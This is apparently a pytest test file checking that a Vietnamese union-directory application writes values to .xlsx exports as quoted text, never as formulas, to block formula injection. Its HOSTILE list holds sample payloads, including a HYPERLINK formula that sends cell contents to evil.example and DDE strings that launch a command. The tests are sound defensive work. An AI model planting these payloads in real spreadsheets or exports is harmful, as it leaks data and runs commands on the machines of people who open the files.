"""No value the product writes to an .xlsx becomes a formula (issue 7, formula injection).

The files are opened with openpyxl, as Excel would read them: every hostile value must be
a text cell (data_type "s") holding exactly the original text, marked with the quote
prefix so that editing the cell does not turn it into a formula either.
"""

from __future__ import annotations

import io
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd
from openpyxl.worksheet.worksheet import Worksheet

from ldl.app import App
from scheduler import digest as digest_mod
from scheduler.jobs import Services
from storage.directory import export_unions, import_unions
from storage.spreadsheet import FORMULA_PREFIXES, write_xlsx
from tests.conftest import Ldl

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 24 3872 1234",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def cells(sheet: Worksheet) -> list[openpyxl.cell.cell.Cell]:
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_all_text(book: openpyxl.Workbook, expected: list[str]) -> None:
    """Every expected value is present, as text, unchanged; and no cell is a formula."""
    seen: dict[str, openpyxl.cell.cell.Cell] = {}
    for sheet in book.worksheets:
        for cell in cells(sheet):
            assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                seen.setdefault(cell.value, cell)
    for value in expected:
        assert value in seen, value
        cell = seen[value]
        assert cell.data_type == "s" and cell.quotePrefix, (value, cell.data_type)


def test_helper_writes_risky_strings_as_text_and_keeps_numbers(tmp_path: Path) -> None:
    values = [*HOSTILE, "\tcmd", "\rcmd", "bell\x07inside"]
    frame = pd.DataFrame({"value": values, "n": range(len(values))})
    path = tmp_path / "x.xlsx"
    write_xlsx(path, [("a:b/c?" * 9, frame)])  # a title Excel would refuse, too long
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    assert len(sheet.title) == 31 and ":" not in sheet.title
    column = [c for c in sheet["A"][1:]]
    assert [c.value for c in column] == [*HOSTILE, "\tcmd", "\rcmd", "bell\ufffdinside"]
    for cell in column:
        assert cell.data_type == "s"
        assert bool(cell.quotePrefix) == cell.value.startswith(FORMULA_PREFIXES), cell.value
    assert [c.value for c in sheet["B"][1:]] == list(range(len(values)))
    assert {c.data_type for c in sheet["B"][1:]} == {"n"}


def hostile_directory(tmp_path: Path) -> Path:
    path = tmp_path / "unions.csv"
    rows = [f'"=X{i}","{name.replace(chr(34), chr(34) * 2)}",dn,u{i}@x.vn,1'
            for i, name in enumerate(HOSTILE)]
    path.write_text("code,name,bloc,emails,active\n" + "\n".join(rows) + "\n", "utf-8")
    return path


def test_unions_export_writes_names_and_codes_as_text(ldl: Ldl, app: App,
                                                      tmp_path: Path) -> None:
    assert ldl("unions", "import", str(hostile_directory(tmp_path))).exit_code == 0
    out = tmp_path / "export.xlsx"
    result = ldl("unions", "export", str(out))
    assert result.exit_code == 0, result.output
    assert_all_text(openpyxl.load_workbook(out), [*HOSTILE, "=X0", "=X5"])
    with app.sessions.begin() as s:  # the export imports back unchanged
        assert import_unions(s, out).unchanged == len(HOSTILE)
    with app.sessions() as s:
        assert export_unions(s, tmp_path / "again.csv") == len(HOSTILE)


def test_digest_workbook_writes_names_and_codes_as_text(app: App, tmp_path: Path) -> None:
    with app.sessions.begin() as s:
        import_unions(s, hostile_directory(tmp_path))
    svc = Services.build(app.sessions, app.settings, app.calendar)
    now = datetime(2021, 3, 16, 8, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
    built = digest_mod.build(app.sessions, app.settings, app.calendar.specs_until(now),
                             svc.templates, now)
    book = openpyxl.load_workbook(io.BytesIO(built.xlsx))
    assert "Ma trận" in book.sheetnames and len(book.worksheets) >= 2
    assert_all_text(book, [*HOSTILE, "=X0", "=X5"])
